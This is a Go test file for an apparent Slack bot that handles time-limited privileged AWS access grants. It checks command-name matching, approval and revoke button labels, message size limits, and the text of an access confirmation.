		if compact(got) != compact(s) {
			t.Errorf("pretty(%s) = %s is another document", s, got)
		}
		if !strings.Contains(got, "\n") {
			t.Errorf("pretty(%s) = %s is one line", s, got)
		}
	}
	for _, s := range []string{"", "{}", "[1]", "text", `{"a":`, `{"a":1`, `{"a":1}x`, "<end>"} {
		if got := pretty(s); got != s {
			t.Errorf("pretty(%q) = %q, want it as it is", s, got)
		}
	}
}

func TestNearest(t *testing.T) {
	for word, want := range map[string]string{
		"grnat": "grant", "Grant": "grant", "gran": "grant", "revok": "revoke", "rev": "revoke", "revoek": "revoke", "stauts": "status",
		"shwo": "show", "hlep": "help", "request": "grant", "close": "revoke", "list": "status", "?": "help",
		"extned": "extend", "ext": "extend", "emergncy": "emergency", "emer": "emergency", "histroy": "history", "hist": "history", "chekc": "check", "chk": "check",
		"": "", "x": "", "frobnicate": "", "a\u0301": "", strings.Repeat("a", 1000): "",
	} {
		got, ok := Nearest(word)
		if got != want || ok != (want != "") {
			t.Errorf("Nearest(%q) = %q, %v, want %q", word, got, ok, want)
		}
	}
	for word, want := range meant {
		if got, ok := Nearest(word); !ok || got != want {
			t.Errorf("Nearest(%q) = %q, %v, want %q", word, got, ok, want)
		}
		if _, ok := find(want); !ok {
			t.Errorf("%q is said to mean %q, which is no command", word, want)
		}
	}
}

func TestButtons_labels(t *testing.T) {
	for name, want := range map[string]string{
		"requested":          "Approve 4 h, Deny, Withdraw, Approve for less…, Deny with a reason…",
		"requested_less":     "Approve 2 h, Deny, Withdraw, Approve for less…, Deny with a reason…",
		"opening":            "Revoke now",
		"open":               "Mark as sent, Revoke now, Extend…",
		"open_sent":          "Revoke now, Extend…",
		"open_more_asked":    "Approve 2 h more, Deny more time, Mark as sent, Revoke now",
		"open_more_approved": "Revoke now",
		"emergency_opening":  "Revoke now, Sign review",
		"emergency_open":     "Mark as sent, Revoke now, Extend…, Sign review",
		"emergency_closed":   "Sign review", "emergency_closed_signed": "",
		"closing": "", "closed": "", "denied": "", "withdrawn": "", "lapsed": "",
	} {
		m := Card(sceneNamed(t, name).g, nil, start)
		var labels []string
		for _, b := range m.Blocks {
			for _, e := range b.Elements {
				if b, ok := e.(button); ok {
					labels = append(labels, b.labels()...)
				}
			}
		}
		if got := strings.Join(labels, ", "); got != want {
			t.Errorf("the card %s has the buttons %q, want %q", name, got, want)
		}
		if want != "" && !strings.HasSuffix(m.Text, "\nButtons: "+want+".") {
			t.Errorf("the top-level text of %s does not name its buttons: %q", name, m.Text)
		}
	}
}

// TestAnswers_size holds that what travels in an acknowledgement is small enough
// for one: Slack drops those of 20 kB without a word.
func TestAnswers_size(t *testing.T) {
	var live []grant.Grant
	for i := range 200 {
		g := sceneNamed(t, "open").g
		g.ID = grant.ID(i + 1)
		g.Reason = strings.Repeat("a reason in words ", 100)
		live = append(live, g)
	}
	help, _ := Help("")
	for name, m := range map[string]Message{
		"status": Status(live, nil, start), "choose": Choose(live, start), "all": ConfirmAll(live, start), "help": help,
		"show": Show(sceneNamed(t, "closed").g, start), "history": History("", live, 10),
		"check": Check([]CellReport{{"a", *sceneNamed(t, "requested_blocked").g.Report}, {"b", *sceneNamed(t, "requested").g.Report}}, start),
	} {
		js, err := json.Marshal(map[string]any{"text": m.Text, "blocks": json.RawMessage(m.BlocksJSON())})
		if err != nil {
			t.Fatal(err)
		}
		if len(js) > 19_000 {
			t.Errorf("%s is %d bytes of JSON", name, len(js))
		}
		if n := len(Said(name, m).JSON()); n > 19_000 {
			t.Errorf("%s in a modal is %d bytes of JSON", name, n)
		}
	}
	for name, m := range map[string]Modal{
		"the form": GrantForm(Form{Cells: []grant.CellName{"a", "b", "c"}, Default: time.Hour, Max: 12 * time.Hour, Ask: grant.Ask{Reason: strings.Repeat("why ", 800)}}),
		"less":     ApproveLessForm(sceneNamed(t, "requested_redirect").g), "extend": ExtendForm(sceneNamed(t, "open").g, 0),
	} {
		if n := len(m.JSON()); n > 19_000 {
			t.Errorf("%s is %d bytes of JSON", name, n)
		}
	}
}

func ExampleConfirmation() {
	g := grant.Grant{
		ID: 7, Cell: "helios-prod", Account: "444455556666", Region: "us-east-1", Ticket: "48213",
		Principal: "arn:aws:iam::111122223333:role/support", End: time.Date(2026, 11, 23, 18, 38, 7, 0, time.UTC),
		Access: &grant.Access{RoleARN: "arn:aws:iam::444455556666:role/" + role, InstanceID: box},
	}
	fmt.Println(Confirmation(g))
	// Output:
	// Privileged access is granted for ticket 48213.
	//
	// BYOC cell: helios-prod
	// AWS account: 444455556666
	// Region: us-east-1
	// Role to assume: arn:aws:iam::444455556666:role/ssm-access-from-other-accounts-helios-prod
	// Role that may assume it: arn:aws:iam::111122223333:role/support
	// Privileged access instance: i-0a1b2c3d4e5f60718
	// Valid until: 2026-11-23 18:38:07 UTC
	// Our reference: BG-7
	//
	// AWS may need up to a minute to accept the role.
	// Sessions are logged. Please tell us as soon as you are done.
}
